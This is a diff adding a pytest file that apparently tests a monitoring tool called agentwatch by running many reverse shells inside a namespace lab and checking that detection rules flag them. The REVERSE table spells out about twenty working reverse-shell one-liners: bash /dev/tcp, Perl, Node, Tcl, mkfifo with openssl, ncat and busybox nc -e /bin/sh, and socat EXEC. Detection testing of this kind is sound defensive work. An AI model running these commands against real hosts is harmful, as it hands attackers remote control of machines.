@@ -1,0 +1,196 @@
+"""Shells at a distance, made in every way that is at hand, are told; what resembles them is not.
+
+Everything is real, in a network of namespaces: who gives the orders is a host of it.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agentwatch.demo.hosts import PYTHON, Host, Lab
+from agentwatch.demo.materials import clean_environment
+from tests.lab import PROGRAMS, script
+from tests.programs.shell_peer import BOUND_PORT, PORT, SCRIPT_PORT, TLS_PORT
+
+pytestmark = [pytest.mark.root, pytest.mark.skipif(os.geteuid() != 0, reason="needs root")]
+
+SECONDS = 60
+RULE = """
+title: {title}
+id: 0f6d3c8e-6d8c-4c0e-9f6b-8a1c7a52{number:04x}
+status: test
+logsource: {{product: agentwatch, category: {category}}}
+detection:
+  one: {{{condition}}}
+  condition: one
+level: high
+"""
+
+
+@dataclass(frozen=True)
+class Peer:
+    lab: Lab
+    host: Host
+
+
+@pytest.fixture(scope="module")
+def peer() -> Iterator[Peer]:
+    with Lab() as lab:
+        certificate = lab.work / "certificate.pem"
+        request = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
+        subprocess.run(
+            [*request, "-days", "1", "-subj", "/CN=peer", "-keyout", certificate, "-out", lab.work / "public.pem"],
+            check=True,
+            capture_output=True,
+        )
+        with certificate.open("a") as file:
+            file.write((lab.work / "public.pem").read_text())
+        program = str(PROGRAMS / "shell_peer.py")
+        yield Peer(lab, lab.start("peer", [*PYTHON, program, str(certificate)]))
+
+
+@pytest.fixture(scope="module")
+def rules(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Alerts on every event of this kind."""
+    folder = tmp_path_factory.mktemp("rules")
+    events = (
+        ("flow", "Behaviour: [reverse_shell, bind_shell], Stage: likely"),
+        ("flow", "Behaviour: [reverse_shell, bind_shell], Stage: certain"),
+        ("flow", "Behaviour: relay, Stage: shape"),
+        ("flow", "Behaviour: relay, Stage: moving"),
+        ("process_behaviour", "Kind: remote_script_loop"),
+    )
+    for number, (category, condition) in enumerate(events):
+        text = RULE.format(title=category, number=number, category=category, condition=condition)
+        (folder / f"{number}.yml").write_text(text)
+    return folder
+
+
+class Watcher:
+    """Runs commands under watch and gives the events that were told, checked against a replay."""
+
+    def __init__(self, peer: Peer, rules: Path, folder: Path) -> None:
+        self._peer, self._rules, self._folder = peer, rules, folder
+
+    def __call__(self, command: list[str], *, code: int | None = None) -> list[dict[str, Any]]:
+        alerts, trace, again = (self._folder / name for name in ("alerts", "trace", "again"))
+        with_rules = ["--rules", str(self._rules), "--alerts"]
+        run = [sys.executable, "-m", "agentwatch", "run", "--record", str(trace), *with_rules, str(alerts)]
+        environment = clean_environment() | {"PYTHONPATH": str(Path(__file__).parents[2])}
+        done = subprocess.run(
+            [*run, "--", *self._peer.lab.inside(command)],
+            capture_output=True,
+            text=True,
+            stdin=subprocess.DEVNULL,
+            start_new_session=True,
+            cwd=self._folder,
+            env=environment,
+            timeout=SECONDS,
+            check=False,
+        )
+        replay = [sys.executable, "-m", "agentwatch", "replay", str(trace), *with_rules, str(again)]
+        replayed = subprocess.run(replay, capture_output=True, text=True, timeout=SECONDS, check=False)
+        assert replayed.returncode == 0, replayed.stderr
+        assert again.read_bytes() == alerts.read_bytes()
+        assert code is None or done.returncode == code, done.stderr
+        return [json.loads(line) for line in alerts.read_text().splitlines()]
+
+
+@pytest.fixture
+def watcher(peer: Peer, rules: Path, tmp_path: Path) -> Watcher:
+    return Watcher(peer, rules, tmp_path)
+
+
+PERL = """
+use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
+connect(S, sockaddr_in({port}, inet_aton("{host}"))) or die;
+open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");
+"""
+NODE = """
+const net = require("net"), sh = require("child_process").spawn("/bin/sh", []);
+const c = net.connect({port}, "{host}", () => {{
+  c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); }});
+c.on("end", () => process.exit(0)); sh.on("exit", () => c.end());
+"""
+TCL = """
+set s [socket {host} {port}]; fconfigure $s -buffering line
+while {{[gets $s line] >= 0 && $line ne "exit"}} {{ catch {{exec /bin/sh << $line}} out; puts $s $out }}
+"""
+REVERSE = {
+    "bash >& /dev/tcp": (["bash", "-c", "bash -i >& /dev/tcp/{host}/{port} 0>&1"], "socket"),
+    "bash exec 5<>": (
+        ["bash", "-c", 'exec 5<>/dev/tcp/{host}/{port}; cat <&5 | while read l; do $l 2>&5 >&5; done'],
+        None,
+    ),
+    "sh <&196": (["bash", "-c", "exec 196<>/dev/tcp/{host}/{port}; sh <&196 >&196 2>&196"], "socket"),
+    "exec in place": (["bash", "-c", "exec sh 0<>/dev/tcp/{host}/{port} 1>&0 2>&0"], "socket"),
+    "python dup2": (script("holder", "dup2", "{host}", "{port}"), "socket"),
+    "python dup2 and pty": (script("holder", "dup2-pty", "{host}", "{port}"), "pty"),
+    "perl": (["perl", "-e", PERL], "socket"),
+    "python recv and run": (script("holder", "loop", "{host}", "{port}"), None),
+    "pipes, as ncat -e": (script("holder", "pipes", "{host}", "{port}"), "pipe"),
+    "unix, as socat EXEC": (script("holder", "unix", "{host}", "{port}"), "unix"),
+    "pty, as socat EXEC,pty": (script("holder", "pty", "{host}", "{port}"), "pty"),
+    "node spawn": (["node", "-e", NODE], "unix"),
+    "tclsh exec": (["tclsh", "SCRIPT", TCL], None),
+    "mkfifo and openssl": (
+        ["bash", "-c", "mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect {host}:{tls} >f"],
+        "pipeline",
+    ),
+    "mkfifo, cat and openssl": (
+        ["bash", "-c", "mkfifo f; cat f | sh -i 2>&1 | openssl s_client -quiet -connect {host}:{tls} >f"],
+        "pipeline",
+    ),
+    "busybox nc -e": (["busybox", "nc", "{host}", "{port}", "-e", "/bin/sh"], "socket"),
+    "ncat -e": (["ncat", "{host}", "{port}", "-e", "/bin/sh"], "pipe"),
+    "ncat -c": (["ncat", "{host}", "{port}", "-c", "/bin/sh"], "pipe"),
+    "ncat --ssl -e": (["ncat", "--ssl", "{host}", "{tls}", "-e", "/bin/sh"], "pipe"),
+    "mkfifo and ncat": (
+        ["ncat", "sh", "-c", "mkfifo f; cat f | /bin/sh -i 2>&1 | ncat {host} {port} >f"],
+        "pipeline",
+    ),
+    "socat EXEC": (["socat", "TCP:{host}:{port}", "EXEC:/bin/sh"], "unix"),
+    "socat EXEC,pty": (["socat", "TCP:{host}:{port}", "EXEC:/bin/sh,pty,stderr,setsid"], "pty"),
+}
+
+
+def prepared(command: list[str], peer: Peer, folder: Path) -> list[str]:
+    """The command with addresses filled in; skipped where its program is not here."""
+    program = command[0]
+    if shutil.which(program) is None:
+        pytest.skip(f"{program} is not installed")
+    if command[:2] == ["ncat", "sh"]:  # needs ncat, runs sh
+        command = command[1:]
+    words = [
+        word.format(host=peer.host.ipv4, port=PORT, tls=TLS_PORT)
+        if "{host}" in word or "{port}" in word or "{tls}" in word
+        else word
+        for word in command
+    ]
+    if words[1:2] == ["SCRIPT"]:
+        path = folder / "script"
+        path.write_text(words[2])
+        words[1:] = [str(path)]
+    return words
+
+
+@pytest.mark.parametrize("name", REVERSE)
+def test_reverse_shells_are_certain(peer: Peer, watcher: Watcher, tmp_path: Path, name: str) -> None:
+    command, via = REVERSE[name]
+    told = watcher(prepared(command, peer, tmp_path))
+    events = [alert["event"] for alert in told]
+    assert [event["Behaviour"] for event in events] == ["reverse_shell"] * len(events)
+    assert events[-1]["Stage"] == "certain"
+    assert via in (None, events[-1]["Via"])
+    port = TLS_PORT if "ssl" in name else PORT
+    assert all(alert["flow"]["remote"] == f"{peer.host.ipv4}:{port}" for alert in told)
